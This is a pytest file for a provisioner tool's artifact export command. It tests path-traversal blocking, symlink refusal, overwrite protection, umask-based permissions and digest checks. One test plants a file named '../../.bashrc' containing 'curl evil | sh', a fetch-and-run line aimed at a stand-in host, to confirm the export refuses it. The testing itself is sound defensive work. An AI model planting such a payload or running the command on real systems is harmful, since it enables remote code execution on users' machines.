"""``run output -o``: files land inside the folder named, never through symlinks, and with
ordinary permissions; existing files are kept unless --force."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from provisioner.runtime import pipeline, step
from provisioner.runtime.artifacts import MANIFEST, artifact_key
from provisioner.runtime.stores import open_store
from tests.runtime.cli_helpers import invoke
from tests.runtime.conftest import make_stack
from tests.runtime.test_artifact_trust import plant, point_output


@step
def folder(tmp: str) -> Path:
    root = Path(tmp) / "made"
    (root / "sub").mkdir(parents=True, exist_ok=True)
    (root / "a.txt").write_text("A")
    (root / "sub" / "b.txt").write_text("BB")
    return root


@step
def text() -> bytes:
    return b"hello"


@pipeline
def files(tmp: str):
    folder(tmp=tmp)
    text()


@pytest.fixture
def setup(tmp_path):
    stack = make_stack("local", root=tmp_path)
    config = tmp_path / "stack.yaml"
    stack.write(config)
    files.run(stack, run_id="files", parameters={"tmp": str(tmp_path)})
    return stack, config


def out(config: Path, *args: str):
    return invoke("run", "output", "files", *args, "--stack", str(config))


def test_a_traversing_file_name_writes_nothing_outside_the_folder(setup, tmp_path):
    """The issue's attack: a folder artifact whose file entry climbs out of DIR."""
    stack, config = setup
    store = open_store(stack)
    victim_home = tmp_path / "victim"
    dest = victim_home / "exports" / "out"
    dest.mkdir(parents=True)
    target = victim_home / ".bashrc"
    hash_ = plant(
        store,
        "path",
        {"../../.bashrc": b"curl evil | sh\n", "ok.txt": b"fine"},
        {"kind": "dir", "name": "d"},
    )
    point_output(store, "files", "folder", "output", hash_, "path")
    result = out(config, "folder", "-o", str(dest))
    assert result.exit_code == 1, result.stdout
    assert "unsafe file name" in result.stderr or "malformed" in result.stderr
    assert not target.exists()
    assert list(dest.iterdir()) == []


def test_a_traversing_name_with_a_stale_manifest_hash_is_refused_too(setup, tmp_path):
    """A manifest that does not even hash to its address: refused before any name is used."""
    stack, config = setup
    store = open_store(stack)
    uri = json.loads(store.get_bytes("runs/files/steps/folder.json"))["outputs"]["output"]
    real = uri.rsplit("/", 1)[-1]
    manifest = json.loads(store.get_bytes(artifact_key(real, MANIFEST)))
    manifest["files"][0]["name"] = "../../../escaped.txt"
    store.put_bytes(artifact_key(real, MANIFEST), json.dumps(manifest).encode())
    dest = tmp_path / "deep" / "a" / "b"
    result = out(config, "folder", "-o", str(dest))
    assert result.exit_code == 1
    assert not (tmp_path / "deep" / "escaped.txt").exists()
    assert not (tmp_path / "escaped.txt").exists()


def test_symlinks_on_the_way_are_refused(setup, tmp_path):
    _stack, config = setup
    dest = tmp_path / "dest"
    dest.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (dest / "sub").symlink_to(outside, target_is_directory=True)
    result = out(config, "folder", "-o", str(dest))
    assert result.exit_code == 2 and "symlink" in result.stderr
    assert list(outside.iterdir()) == []

    link = tmp_path / "link.bin"
    link.symlink_to(tmp_path / "victim-file")
    one = out(config, "text", "-o", str(link), "--force")
    assert one.exit_code == 2 and "symlink" in one.stderr
    assert not (tmp_path / "victim-file").exists()


def test_existing_files_are_kept_without_force(setup, tmp_path):
    _stack, config = setup
    dest = tmp_path / "hello.bin"
    dest.write_bytes(b"mine")
    kept = out(config, "text", "-o", str(dest))
    assert kept.exit_code == 2 and "already exists" in kept.stderr and "--force" in kept.stderr
    assert dest.read_bytes() == b"mine"
    forced = out(config, "text", "-o", str(dest), "--force")
    assert forced.exit_code == 0 and dest.read_bytes() == b"hello"

    folder_dest = tmp_path / "copy"
    assert out(config, "folder", "-o", str(folder_dest)).exit_code == 0
    (folder_dest / "a.txt").write_text("edited")
    again = out(config, "folder", "-o", str(folder_dest))
    assert again.exit_code == 2 and (folder_dest / "a.txt").read_text() == "edited"
    assert out(config, "folder", "-o", str(folder_dest), "--force").exit_code == 0
    assert (folder_dest / "a.txt").read_text() == "A"


@pytest.mark.parametrize("umask", [0o022, 0o077])
def test_exported_files_follow_the_umask(setup, tmp_path, umask):
    _stack, config = setup
    old = os.umask(umask)
    try:
        assert out(config, "text", "-o", str(tmp_path / "t.bin")).exit_code == 0
        assert out(config, "folder", "-o", str(tmp_path / "f")).exit_code == 0
    finally:
        os.umask(old)
    expected = 0o666 & ~umask
    assert (tmp_path / "t.bin").stat().st_mode & 0o777 == expected
    assert (tmp_path / "f" / "sub" / "b.txt").stat().st_mode & 0o777 == expected


def test_an_exported_file_that_does_not_match_its_digest_never_appears(setup, tmp_path):
    stack, config = setup
    store = open_store(stack)
    uri = json.loads(store.get_bytes("runs/files/steps/text.json"))["outputs"]["output"]
    store.put_bytes(artifact_key(uri.rsplit("/", 1)[-1], "data/0"), b"HELLO")
    dest = tmp_path / "t.bin"
    result = out(config, "text", "-o", str(dest))
    assert result.exit_code == 1 and "does not verify" in result.stderr
    assert not dest.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".t.bin")] == []
